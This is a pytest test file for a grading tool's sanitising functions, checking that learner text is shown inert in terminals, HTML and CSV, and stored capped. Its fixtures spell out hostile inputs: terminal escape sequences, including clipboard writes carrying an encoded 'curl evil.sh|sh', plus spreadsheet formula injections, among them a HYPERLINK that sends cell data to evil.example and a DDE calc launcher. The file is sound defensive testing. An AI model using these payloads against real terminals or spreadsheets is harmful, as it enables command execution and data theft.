"""Learner text on its way to an instructor: a submission's message, source line, file or
folder name may hold terminal escape sequences, bidirectional overrides, lone surrogates,
spreadsheet formulas or megabytes of text. Whatever it holds, the terminal shows it inert,
every writer accepts it, and a stored result stays small."""

import csv
import dataclasses
import io
import json
import os
import re

import pytest
from rich.console import Console

from grader.render import result_html, result_rich, result_text
from grader.result import MAX_JSON, MAX_SOURCE, MAX_TEXT, MAX_WARNINGS, CaseResult, CheckResult, Speed, SpeedDetails
from grader.result.doctor import DoctorReport, Finding
from grader.textsafe import REPLACEMENT, capped, csv_cell, html_text, terminal_text, unsurrogate

ATTACKS = {
    "clear the screen": "\x1b[2J\x1b[3J\x1b[H",
    "a green PASSED": "\x1b[32;1mPASSED\x1b[0m",
    "clipboard write, BEL-terminated": "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07",
    "clipboard write, ST-terminated": "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x1b\\",
    "window title": "\x1b]0;Y3VybCBldmlsLnNofHNo\x07",
    "hyperlink": "\x1b]8;;http://Y3VybCBldmlsLnNofHNo\x1b\\click\x1b]8;;\x1b\\",
    "8-bit CSI": "\x9b2J",
    "8-bit OSC": "\x9d52;c;Y3VybCBldmlsLnNofHNo\x9c",
    "DCS string": "\x1bPq#0;2;0;0;0Y3VybCBldmlsLnNofHNo\x1b\\",
    "cursor up and erase line": "\x1b[1A\x1b[2K",
    "carriage return over the line": "wrong result\rPASSED      ",
    "backspaces": "FAIL\x08\x08\x08\x08PASS",
    "bell and DEL": "\x07\x7f",
    "right-to-left override": "\u202eDESSAP\u202c",
    "isolates": "\u2066\u2067evil\u2069\u2069",
    "a lone ESC at the end": "\x1b",
}
FORBIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
"""What must never reach a terminal, a page or a CSV from a learner: controls but tab and
newline, bidirectional controls, lone surrogates."""
PAYLOAD = "Y3VybCBldmlsLnNofHNo"
"""The data an escape sequence carried (a clipboard's text, a title, a link): dropped with it."""


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_a_terminal_sees_no_control_sequence_of_a_learner(attack):
    """Is every form neutralised, the text around it kept, and a mark left where it was?"""
    shown = terminal_text(f"before {attack}\nafter\n")
    assert not FORBIDDEN.search(shown), repr(shown)
    assert shown.startswith("before ") and shown.endswith("\nafter\n")
    assert REPLACEMENT in shown and PAYLOAD not in shown


def test_plain_text_newlines_tabs_and_unicode_pass_unchanged():
    text = "line 1\n\tline 2 — ünïcödé, 数据, ∑ x² ≤ 1 (ok)\n"
    assert terminal_text(text) == text
    assert terminal_text("windows\r\nline\r\n") == "windows\nline\n"


LONE = {
    "an undecodable byte in a file name": os.fsdecode(b"ann\xff"),
    "a high surrogate": "x\ud800y",
    "a low surrogate": "x\udfffy",
    "a pair split into lone halves": "x\ud83d\ude00y",
}


@pytest.mark.parametrize("text", LONE.values(), ids=LONE.keys())
def test_a_lone_surrogate_becomes_encodable_text(text):
    """Does every writer's function give text that encodes as UTF-8, with the surrogate
    still visible as its escape?"""
    for made in (unsurrogate(text), terminal_text(text), html_text(text), csv_cell(text)):
        made.encode("utf-8")
        assert "\\ud" in made and not FORBIDDEN.search(made)


def test_names_that_differ_by_an_undecodable_byte_stay_apart():
    names = [os.fsdecode(b"ann\xff"), os.fsdecode(b"ann\xfe"), "ann"]
    assert len({unsurrogate(n) for n in names}) == 3
    clean = "ann — ok"
    assert unsurrogate(clean) is clean, "text without surrogates is not copied"


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=\x1b[2J1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_csv_cell_is_never_a_formula(text):
    """Read back by the csv module (as a spreadsheet would split it), no cell starts with a
    character that makes a formula, and the learner's text is still there to read."""
    buffer = io.StringIO()
    csv.writer(buffer).writerow(["ann", csv_cell(text), 3])
    cell = next(csv.reader(io.StringIO(buffer.getvalue())))[1]
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert not FORBIDDEN.search(cell)
    assert cell.endswith(text[-1])
    if text.isprintable():
        assert cell == "'" + text, "the text itself unchanged"


def test_numbers_and_plain_cells_are_left_alone():
    assert [csv_cell(v) for v in (3, -1.5, None, "", "ann", "a = b", "wrong_result")] == [
        3,
        -1.5,
        None,
        "",
        "ann",
        "a = b",
        "wrong_result",
    ]


def test_capped_says_how_much_was_cut():
    assert capped("abc", 3) == "abc"
    assert capped("x" * 10_000, 4) == "xxxx… (9,996 characters cut)"


# ---- the views of a result ---------------------------------------------------------------


def hostile_result() -> CheckResult:
    every = " ".join(ATTACKS.values()) + " " + " ".join(LONE.values())
    case = CaseResult(f"case {every}", {"n": 3}, "wrong_result", message=f"wrong {every}", source=f"x = 1 {every}")
    return CheckResult(
        exercise="vector_add",
        title="vector add",
        backend="simulator",
        verdict="wrong_result",
        message=f"Your message: {every}",
        hint=f"Hint {every}",
        cases=(case,),
        speed=Speed(measured=False, reason="not measured: no GPU"),
        score=0.0,
        max_score=10.0,
        seed=7,
        warnings=(f"first {every}", f"second {every}"),
    )


def test_the_text_view_is_inert_in_a_terminal():
    shown = result_text(hostile_result())
    assert not FORBIDDEN.search(shown) and PAYLOAD not in shown
    assert "Your message:" in shown and "Hint" in shown


def test_the_rich_view_keeps_its_own_colours_and_drops_the_learners():
    """Printed on a colour terminal by any rich console, the panel's own styles remain."""
    out = io.StringIO()
    Console(file=out, force_terminal=True, width=120, highlight=False).print(result_rich(hostile_result()))
    printed = out.getvalue()
    assert "\x1b[" in printed, "the panel is coloured"
    learner = re.sub(r"\x1b\[[0-9;]*m", "", printed)  # rich's own colours, nothing else
    assert not FORBIDDEN.search(learner), repr(FORBIDDEN.search(learner))
    assert PAYLOAD not in printed and "Your message:" in learner


def test_the_html_view_has_no_control_or_bidirectional_character():
    shown = result_html(hostile_result())
    assert not FORBIDDEN.search(shown) and PAYLOAD not in shown
    shown.encode("utf-8")


def test_the_commands_console_prints_a_learners_words_inert(capsys):
    """`zerogpu` prints student names, file names and messages through cli.console: no
    escape of theirs reaches the terminal, and no bracket of theirs is read as markup."""
    from grader.cli.console import console, error

    every = " ".join(ATTACKS.values()) + " ".join(LONE.values())
    console().print(f"not graded: {every}/vector_add.py", markup=False)
    assert error(f"no such folder: [bold red]PASSED[/] [/oops] {every}") == 2
    out, err = capsys.readouterr()
    for printed in (out, err):
        assert not FORBIDDEN.search(printed) and PAYLOAD not in printed
    assert err.startswith("error: no such folder: [bold red]PASSED[/] [/oops]") and err.count("\n") == 1


def test_a_results_json_has_no_lone_surrogate_anywhere():
    """Texts the result does not cap itself (a doctor report's, a speed section's) are
    cleaned in its JSON too, so a strict JSON reader (or a UTF-8 one) accepts it."""
    r = dataclasses.replace(
        hostile_result(),
        doctor=DoctorReport("kernel doctor", findings=(Finding("race", "error", "\udcff", source="o\ud800\udfff"),)),
        speed=Speed(True, details=SpeedDetails(device="H200 \udc80")),
    )
    for stored in (r.to_json(), r.to_json(ensure_ascii=False)):
        stored.encode("utf-8")
        assert not re.search(r"(?<!\\)\\ud[89a-f]", stored), "no escaped lone surrogate either"
        assert "udcff" in stored and "H200 " in stored


# ---- stored results stay small -----------------------------------------------------------

HUGE = "A" * (32 << 20)  # 32 MiB: once 268 MB of JSON and 919 MB of grader memory


def small_result(**changes) -> CheckResult:
    r = CheckResult("vector_add", "vector add", "simulator", "exception", "m", "h", (), Speed(False), 0, 10, 7)
    return dataclasses.replace(r, **changes)


@pytest.mark.parametrize(
    "changes",
    [
        {"message": HUGE},
        {"hint": HUGE},
        {"warnings": (HUGE,) * 3},
        {"warnings": ("w",) * 100_000},
        {"cases": (CaseResult("c", {"n": 1}, "exception", message=HUGE, source=HUGE, hint=HUGE),) * 4},
        {"doctor": DoctorReport("kernel doctor", findings=(Finding("race", "error", HUGE),))},
        {"doctor": DoctorReport("kernel doctor", launches=(((1, 1, 1), (32, 1, 1)),) * 20_000)},
    ],
    ids=["message", "hint", "warnings", "many warnings", "case texts", "doctor text", "many launches"],
)
def test_a_32_mib_text_is_stored_capped(changes):
    """Does every learner-fed part of a result stay bounded, in the object and in its JSON,
    and read back?"""
    r = small_result(**changes)
    stored = r.to_json()
    assert len(stored) <= MAX_JSON
    again = CheckResult.from_dict(json.loads(stored))
    assert len(again.warnings) <= MAX_WARNINGS
    for text in (again.message, again.hint, *again.warnings):
        assert len(text) <= MAX_TEXT + 40
    for case in again.cases:
        assert len(case.message) <= MAX_TEXT + 40 and len(case.source) <= MAX_SOURCE + 40
    cut = json.loads(stored).get("cut", "")
    assert "characters cut" in stored or "shortened to fit" in cut or changes.keys() == {"warnings"}


def test_a_huge_result_read_back_from_an_old_gradebook_is_capped():
    """A gradebook written before the caps may hold the megabytes: reading it caps them."""
    old = {
        **small_result().to_dict(),
        "message": HUGE,
        "cases": [{"name": "c", "dims": {}, "verdict": "x", "source": HUGE}],
    }
    again = CheckResult.from_dict(old)
    assert again.message.endswith(f"… ({len(HUGE) - MAX_TEXT:,} characters cut)")
    assert len(again.cases[0].source) < MAX_SOURCE + 40
